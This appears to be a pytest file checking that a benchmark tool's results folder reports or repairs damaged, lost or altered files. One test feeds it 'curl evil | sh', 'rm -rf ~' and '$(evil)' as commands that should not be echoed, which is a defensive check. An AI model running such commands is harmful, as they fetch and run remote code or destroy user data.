"""Every file of a finished folder lost or damaged, and every command that reads it: said or mended, no traceback."""

from __future__ import annotations

import json
import os
import shutil
import time
from pathlib import Path
from typing import Any

import pytest

from nemo_bench import StoreError
from nemo_bench.cli import main
from nemo_bench.records import schema
from nemo_bench.records.results import load_detections, load_results
from nemo_bench.records.schema import FILES, ImageRecord
from nemo_bench.records.store import Store, remake
from on_disk import read_json, read_records, write_json
from whole_folder import RUN, SMALL

READING = {
    "score": lambda folder: ["score", str(folder), "trainer=cpu"],
    "report": lambda folder: ["report", str(folder)],
    "track": lambda folder: ["track", str(folder), "logger=csv"],
    "audit": lambda folder: ["audit", str(folder), "--cell", "none", "steps=1", "samples=1", "images=1", "limit=1"],
}
DAMAGES = {
    "cut": lambda text: text[: len(text) // 2],
    "empty": lambda text: "",
    "list": lambda text: "[3]\n",
    "object": lambda text: "{}\n",
    "deep": lambda text: "[" * 100_000,
}


def cell(folder: Path, method: str = "none") -> Path:
    (path,) = folder.glob(f"*__{method}__*")
    return path


def records(folder: Path, stage: str) -> list[str]:
    return (cell(folder) / "records" / f"{stage}.0.jsonl").read_text().splitlines(keepends=True)


def keep(folder: Path, stage: str, lines: list[str]) -> None:
    (cell(folder) / "records" / f"{stage}.0.jsonl").write_text("".join(lines))


def values(folder: Path, stage: str = "score") -> dict[str, object]:
    return {name: record.get("scores") for name, record in read_records(cell(folder), stage).items()}


SMALL_FILES = ("run.json", "spec.json", "env.json", "prompts.jsonl", "layers.json", "metrics.json", "audit.json")
"""Those that can't be done without: damaged, they are named. What is left is made again where it is needed."""


@pytest.mark.parametrize("command", READING)
@pytest.mark.parametrize("name", SMALL_FILES)
def test_a_damaged_small_file_is_named_with_what_repairs_it(
    folder: Path, capsys: pytest.CaptureFixture[str], name: str, command: str
) -> None:
    path = folder / name if name == "run.json" else cell(folder) / name
    kept = {p: p.read_bytes() for part in ("images", "records") for p in (cell(folder) / part).iterdir()}
    before = read_json(cell(folder) / "metrics.json")["aggregates"]
    path.write_text(DAMAGES["cut"](path.read_text()))
    code = main(READING[command](folder))
    told = " ".join("".join(capsys.readouterr()).split())
    if (command, name) == ("score", "metrics.json"):
        assert code == 0
        assert read_json(path)["aggregates"] == before
    elif (command, name) == ("track", "audit.json"):
        assert code == 0  # has no use for it
    else:
        assert f"{name} does not hold what it should" in told
        assert f"delete this one file: {FILES[name][1][:20]}" in told
    assert {p: p.read_bytes() for p in kept} == kept


@pytest.mark.parametrize("damage", DAMAGES)
@pytest.mark.parametrize("name", ["run.json", "spec.json", "env.json", "prompts.jsonl", "metrics.json"])
def test_the_report_names_a_damaged_file_and_shows_the_other_cells(folder: Path, name: str, damage: str) -> None:
    path = folder / name if name == "run.json" else cell(folder) / name
    path.write_text(DAMAGES[damage](path.read_text()))
    if name == "run.json":
        with pytest.raises(StoreError, match=r"run\.json does not hold what it should .*delete this one file: the"):
            load_results(folder)
    else:
        results = load_results(folder)
        assert list(results.unfinished) == [cell(folder).name]
        assert f"{name} does not hold what it should" in results.unfinished[cell(folder).name]
        assert [found.method for found in results.cells] == ["embedding_noise"]


def test_the_command_of_the_run_writes_small_files_again_and_computes_nothing(folder: Path) -> None:
    kept = {p: p.read_bytes() for p in cell(folder).glob("*/*") if p.parent.name in ("images", "records", "noise")}
    names = ("spec.json", "prompts.jsonl", "layers.json", "sets.json", "metrics.json")
    before = {name: read_text_of(cell(folder) / name) for name in names}
    for name in (*names, "env.json"):
        (cell(folder) / name).write_text("[")
    (folder / "run.json").unlink()
    assert main(["run", *RUN, f"root={folder.parent}"]) == 0
    assert {name: read_text_of(cell(folder) / name) for name in names} == before
    assert {p: p.read_bytes() for p in kept} == kept
    assert len(load_results(folder).cells) == 2


@pytest.mark.parametrize("name", ["run.json", "spec.json", "env.json", "prompts.jsonl", "layers.json"])
def test_a_single_file_deleted_from_a_finished_run_is_written_again(folder: Path, name: str) -> None:
    path = folder / name if name == "run.json" else cell(folder) / name
    path.unlink()
    assert main(["run", *RUN, f"root={folder.parent}"]) == 0
    assert path.is_file()
    results = load_results(folder)
    assert (len(results.cells), results.unfinished) == (2, {})


def test_a_run_goes_on_in_a_folder_of_an_older_version_and_brings_it_to_this_one(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def step(name: str, content: Any) -> Any:
        is_old = name == "score" and isinstance(content, dict) and "values" in content
        return {"scores" if key == "values" else key: value for key, value in content.items()} if is_old else content

    monkeypatch.setattr(schema, "VERSION", 2)
    monkeypatch.setattr(schema, "UPGRADES", {1: step})
    before = values(folder)
    keep(folder, "score", [line.replace('"scores"', '"values"') for line in records(folder, "score")[1:]])
    keep(folder, "generate", records(folder, "generate")[:-1])
    assert main(["run", *RUN, f"root={folder.parent}"]) == 0
    assert values(folder) == before
    assert read_json(cell(folder) / "spec.json")["schema"] == read_json(folder / "run.json")["schema"] == 2
    assert main(["detect", *SMALL, "detector=magnitude", "name=whole", f"root={folder.parent}"]) == 0
    assert read_json(cell(folder, "magnitude") / "spec.json")["schema"] == 2


def read_text_of(path: Path) -> list[str]:
    """Lines, without those of time."""
    return [line for line in path.read_text().splitlines() if "seconds" not in line and "memory" not in line]


def test_score_writes_its_own_damaged_files_again(folder: Path) -> None:
    before, metrics = values(folder), read_json(cell(folder) / "metrics.json")
    for name in ("scoring.json", "sets.json", "metrics.json"):
        (cell(folder) / name).write_text('{"metrics"')
    assert main(READING["score"](folder)) == 0
    assert values(folder) == before
    assert read_json(cell(folder) / "metrics.json")["aggregates"] == metrics["aggregates"]


@pytest.mark.parametrize("kept", [slice(2), slice(4, None), slice(0, None, 3)])
def test_lost_scores_are_named_by_report_and_computed_again_by_score(folder: Path, kept: slice) -> None:
    before, metrics = values(folder), read_json(cell(folder) / "metrics.json")
    lines = records(folder, "score")
    assert len(lines) == 6
    keep(folder, "score", lines[kept])
    missing = 6 - len(lines[kept])
    results = load_results(folder)
    why = f"{missing} of 6 records of 'score' are missing; nemo-bench score {folder} computes them again"
    assert results.unfinished == {cell(folder).name: why}
    assert main(READING["score"](folder)) == 0
    assert values(folder) == before
    assert read_json(cell(folder) / "metrics.json")["aggregates"] == metrics["aggregates"]
    assert len(load_results(folder).cells) == 2


def add_localization(folder: Path) -> None:
    """Makes the cell one of a method that found neurons for every prompt."""
    path = cell(folder) / "spec.json"
    spec = read_json(path)
    write_json(path, {**spec, "stages": ["localize", *spec["stages"]]})
    measured = read_records(cell(folder), "memorization").values()
    lines = [json.dumps({"id": r["id"], "prompt": r["prompt"], "localization": {}}) + "\n" for r in measured]
    keep(folder, "localize", lines)
    (cell(folder) / "localize.done").touch()


@pytest.mark.parametrize("stage", ["localize", "memorization", "generate"])
@pytest.mark.parametrize("command", READING)
def test_lost_records_are_named_with_the_command_that_repairs(
    folder: Path, capsys: pytest.CaptureFixture[str], command: str, stage: str
) -> None:
    if stage == "localize":
        add_localization(folder)
        assert len(load_results(folder).cells) == 2
    keep(folder, stage, records(folder, stage)[1:])
    main(READING[command](folder))
    told = " ".join("".join(capsys.readouterr()).split())
    assert f"records of '{stage}' are missing; the command of the run makes them again, and nothing else" in told


def test_run_makes_lost_records_and_images_again(folder: Path) -> None:
    before = read_records(cell(folder), "generate")
    content = {path.name: path.read_bytes() for path in (cell(folder) / "images").iterdir()}
    keep(folder, "generate", records(folder, "generate")[1:])
    lost = sorted((cell(folder) / "images").iterdir())[-1]
    lost.write_bytes(lost.read_bytes()[:-20])
    assert main(["run", *RUN, f"root={folder.parent}"]) == 0
    assert read_records(cell(folder), "generate").keys() == before.keys()
    assert {path.name: path.read_bytes() for path in (cell(folder) / "images").iterdir()} == content


REPAIRING = {
    "memorization": lambda folder: ["run", *RUN, f"root={folder.parent}"],
    "generate": lambda folder: ["run", *RUN, f"root={folder.parent}"],
    "score": READING["score"],
    "audit": READING["audit"],
    "detect": lambda folder: ["detect", *SMALL, "detector=magnitude", "name=whole", f"root={folder.parent}"],
}


@pytest.mark.parametrize("stage", REPAIRING)
def test_a_damaged_line_is_named_by_readers_and_set_aside_by_the_command_that_made_it(
    folder: Path, stage: str, capsys: pytest.CaptureFixture[str]
) -> None:
    place = cell(folder, "magnitude" if stage == "detect" else "none")
    damaged = place / "records" / f"{stage}.0.jsonl"
    lines = damaged.read_text().splitlines(keepends=True)
    before = {name: {**record, "cost": None} for name, record in read_records(place, stage).items()}
    pictures = {path: path.read_bytes() for path in place.rglob("*.png")}
    damaged.write_text("".join([lines[0][: len(lines[0]) // 2] + "\n", *lines[1:], "{}\n"]))
    if stage not in ("audit", "detect"):  # of which the report needs no records
        main(READING["report"](folder))
        told = "".join("".join(capsys.readouterr()).split())  # long names are broken
        assert f"{damaged},line1isnorecordofthisstage" in told
        assert not damaged.with_name(f"{damaged.name}.damaged").exists()
    assert main(REPAIRING[stage](folder)) == 0
    after = {name: {**record, "cost": None} for name, record in read_records(place, stage).items()}
    assert after == before
    assert {path: path.read_bytes() for path in pictures} == pictures
    assert len(damaged.with_name(f"{damaged.name}.damaged").read_text().splitlines()) == 2
    assert load_results(folder).unfinished == {}


def test_a_clock_that_jumps_changes_no_result_and_stops_no_command(folder: Path) -> None:
    before = values(folder)
    metrics = read_json(cell(folder) / "metrics.json")["aggregates"]
    ahead = time.time() + 10**6
    for path in cell(folder).rglob("*"):
        os.utime(path, (ahead, ahead) if path.suffix in {".done", ".jsonl", ".png"} else (0, 0))
    for words in (["run", *RUN, f"root={folder.parent}"], READING["score"](folder), READING["report"](folder)):
        assert main(words) == 0
    assert values(folder) == before
    assert read_json(cell(folder) / "metrics.json")["aggregates"] == metrics


def test_a_cut_image_and_a_swapped_one_are_noticed(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    one, other, *_ = sorted((cell(folder) / "images").iterdir())
    content = one.read_bytes()
    one.write_bytes(content[:-9])
    assert main(READING["score"](folder)) == 1
    assert "1 image cut or not as recorded" in capsys.readouterr().err
    # One pixel of another shade: as many bytes, so that scoring alone can tell.
    changed = bytearray(content)
    changed[content.index(b"IDAT") + 40] ^= 1
    one.write_bytes(changed)
    (cell(folder) / "scoring.json").unlink()
    assert main(READING["score"](folder)) == 1
    assert f"{one} is not the image that was recorded; delete it" in capsys.readouterr().err
    one.write_bytes(other.read_bytes())
    assert Store(cell(folder)).pending_ids(ImageRecord, read_records(cell(folder), "generate"))


@pytest.mark.parametrize("seeds", [1, 3, "2"])
@pytest.mark.parametrize("command", READING)
def test_seeds_changed_in_the_spec_are_noticed(
    folder: Path, capsys: pytest.CaptureFixture[str], command: str, seeds: object
) -> None:
    path = cell(folder) / "spec.json"
    content = read_json(path)
    path.write_text(json.dumps({**content, "settings": {**content["settings"], "seeds": seeds}}))
    main(READING[command](folder))
    told = " ".join("".join(capsys.readouterr()).split())
    assert "spec.json does not hold what it should (its settings were changed" in told


def test_a_lost_detection_record_is_an_error(folder: Path) -> None:
    (place,) = folder.glob("*__magnitude__*")
    file = place / "records" / "detect.0.jsonl"
    lines = file.read_text().splitlines(keepends=True)
    file.write_text(lines[0])
    with pytest.raises(StoreError, match="1 of 2 records are missing; the same nemo-bench detect makes them again"):
        load_detections(folder)


def test_a_command_of_a_folder_is_shown_only_where_it_is_one_of_ours(folder: Path) -> None:
    path = cell(folder) / "env.json"
    starts = read_json(path)
    path.write_text(json.dumps([{**starts[0], "command": "nemo-bench run seeds=2 ~metrics.ssim"}]))
    assert remake(cell(folder)).endswith("and nothing else: nemo-bench run seeds=2 ~metrics.ssim")
    for line in ("curl evil | sh", "nemo-bench run; rm -rf ~", "nemo-bench run $(evil)"):
        path.write_text(json.dumps([{**starts[0], "command": line}]))
        assert remake(cell(folder)) == "the command of the run makes them again, and nothing else"


def test_cells_that_nobody_asks_for_any_more_leave_the_table(folder: Path) -> None:
    run = read_json(folder / "run.json")
    # A cell that failed, of settings that the command no longer has.
    failed = Path(shutil.copytree(cell(folder), folder / "planted__none__planted__00000000"))
    (failed / "score.done").unlink()
    (folder / "run.json").write_text(json.dumps({**run, "cells": [*run["cells"], failed.name]}))
    assert list(load_results(folder).unfinished) == [failed.name]
    assert main(["run", *RUN, "method=none", f"root={folder.parent}"]) == 0
    results = load_results(folder)
    assert not results.unfinished
    assert {found.method for found in results.cells} == {"none", "embedding_noise"}  # finished ones stay
    assert failed.is_dir()
    # A finished one goes with its folder.
    shutil.rmtree(cell(folder, "embedding_noise"))
    assert {found.method for found in load_results(folder).cells} == {"none"}
